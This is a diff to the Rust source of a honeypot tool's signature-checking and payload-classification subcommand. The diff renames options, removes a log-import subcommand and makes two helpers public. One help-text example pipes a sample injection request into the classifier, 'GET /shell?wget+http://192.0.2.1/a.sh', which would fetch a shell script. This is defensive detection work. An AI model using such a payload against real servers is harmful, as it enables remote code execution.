@@ -1,7 +1,5 @@
 //! `honeyxdp signatures`: what the rules say about the first payload of a connection, and whether a file of rules is right.
 
-mod import;
-
 use std::{
     fs::File,
     io::{self, Read},
@@ -18,10 +16,10 @@ use super::snapshot::print;
 /// The longest file of rules, and the longest payload, bytes.
 const LONGEST: u64 = 16 << 20;
 
-/// Look at the rules that label payloads: exploits, families, and the files they fetch
+/// Check and explain the signatures that classify payloads
 ///
-/// A label says what the first bytes of a connection exploit, which family of bots sent them, and what they order to be fetched.
-/// Its rules are a TOML file; docs/labels.md describes it, and contrib/signatures.toml is built in.
+/// A classification names the exploit in the first bytes of a connection, the family of bots that sent them, and the file
+/// that they fetch. Signatures are a TOML file, which docs/ describes; contrib/signatures.toml is built in.
 #[derive(Debug, clap::Args)]
 pub(super) struct Args {
     #[command(subcommand)]
@@ -33,40 +31,31 @@ pub(super) struct Args {
 
 #[derive(Debug, Subcommand)]
 enum Command {
-    /// Say how many rules a file has, or all that is wrong with it
+    /// Check a file of signatures
     ///
-    /// Every error comes with its line and the rule's id, and makes the exit status 1.
-    #[command(after_help = "Examples:\n  honeyxdp signatures check\n  honeyxdp signatures check my-labels.toml")]
+    /// Prints the number of signatures, or every error with its line and the signature's id. Exit status 1 if there is one.
+    #[command(after_help = "Examples:\n  honeyxdp signatures check\n  honeyxdp signatures check my-signatures.toml")]
     Check {
-        /// The file of rules. Default: the built-in rules
+        /// File of signatures. Default: the built-in signatures
         #[arg(value_name = "FILE")]
         file: Option<PathBuf>,
     },
-    /// Say what the rules say about a payload
+    /// Classify a payload and show why
     ///
-    /// Prints the exploit, the family, where in the payload each was told and how sure that is, and the order to fetch a file. The
-    /// payload's text is escaped. A payload that no rule holds for is no error.
+    /// Prints the exploit and the family with the matching signature, its place in the payload and its confidence, and the
+    /// file that the payload fetches. The payload's text is escaped. A payload that nothing matches is no error.
     #[command(after_help = "Examples:\n  \
                             honeyxdp signatures explain payload.bin\n  \
                             printf 'GET /shell?wget+http://192.0.2.1/a.sh HTTP/1.1\\r\\n' | honeyxdp signatures explain -\n  \
-                            honeyxdp signatures explain --rules my-labels.toml --json payload.bin")]
+                            honeyxdp signatures explain --signatures my-signatures.toml --json payload.bin")]
     Explain {
         /// File with the bytes of a payload; - is standard input
         #[arg(value_name = "FILE", default_value = "-")]
         payload: PathBuf,
-        /// File of rules. Default: the built-in rules
-        #[arg(long, value_name = "FILE")]
-        rules: Option<PathBuf>,
+        /// File of signatures. Default: the built-in signatures
+        #[arg(long, value_name = "FILE", env = "HONEYXDP_SIGNATURES")]
+        signatures: Option<PathBuf>,
     },
-    /// Put what other honeypots were told into an archive
-    ///
-    /// Commands, downloads and logins of Cowrie's and Dionaea's logs become payloads, labelled by the rules, with the times of the log.
-    /// Lines that cannot be read are counted and left out. A log that comes again adds nothing, and one that goes on adds what is
-    /// new.
-    #[command(after_help = "Examples:\n  \
-                            honeyxdp signatures import --archive /srv/honeyxdp/archive cowrie.json.2019-07-*\n  \
-                            zcat dionaea.json.gz | honeyxdp signatures import --archive /srv/honeyxdp/archive -")]
-    Import(import::Args),
 }
 
 /// The rules of a file, or those that are built in.
@@ -78,11 +67,10 @@ pub(super) fn rules(file: Option<&Path>) -> anyhow::Result<Signatures> {
 pub(super) fn signatures(args: &Args) -> anyhow::Result<()> {
     match &args.command {
         Command::Check { file } => check(file.as_deref(), args.json),
-        Command::Explain { payload, rules } => {
-            let (rules, bytes) = (self::rules(rules.as_deref())?, bytes(payload)?);
-            explain(&rules.classify(&bytes), bytes.len(), args.json)
+        Command::Explain { payload, signatures } => {
+            let (signatures, bytes) = (rules(signatures.as_deref())?, bytes(payload)?);
+            explain(&signatures.classify(&bytes), bytes.len(), args.json)
         }
-        Command::Import(import) => import::import(import, args.json),
     }
 }
 
@@ -168,7 +156,7 @@ fn json_of(Match { signature: rule, regions }: &Match<'_>) -> Value {
 }
 
 /// Prints JSON in ASCII: text of an attacker in it does nothing to a terminal.
-fn print_json(value: &Value) -> anyhow::Result<()> {
+pub(super) fn print_json(value: &Value) -> anyhow::Result<()> {
     let mut safe = String::new();
     for character in serde_json::to_string_pretty(value)?.chars() {
         // Line feeds are the layout: those in strings are escaped already.
@@ -194,7 +182,7 @@ fn readable(text: &str) -> String {
 }
 
 /// A name of a file for a message.
-fn shown(path: &Path) -> String {
+pub(super) fn shown(path: &Path) -> String {
     path.display().to_string().escape_debug().to_string()
 }
 
